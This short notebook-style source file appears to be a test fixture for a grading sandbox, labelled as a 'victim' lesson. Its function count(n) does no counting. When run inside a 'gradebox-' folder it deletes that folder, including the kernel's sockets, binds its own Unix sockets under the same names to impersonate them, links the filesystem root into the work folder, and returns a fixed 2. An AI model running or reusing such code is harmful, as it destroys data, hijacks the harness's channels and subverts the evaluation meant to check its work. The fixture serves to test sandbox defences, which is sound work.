# %% [markdown] lesson="victim" category="processes, signals, time" attacks=["count-test"]
# Removes its scratch folder with the kernel's sockets, and puts sockets and links of its own there.

# %% count
import contextlib, os, shutil, socket

def count(n):
    home = os.path.dirname(os.getcwd())
    if not os.path.basename(home).startswith("gradebox-"):
        return 2
    names = os.listdir(home)
    shutil.rmtree(home, ignore_errors=True)
    os.makedirs(f"{home}/work", exist_ok=True)
    for name in names:
        if name != "work":
            with contextlib.suppress(PermissionError):
                one = socket.socket(socket.AF_UNIX)
                one.bind(f"{home}/{name}")
                one.listen()
    os.symlink("/", f"{home}/work/root")
    return 2
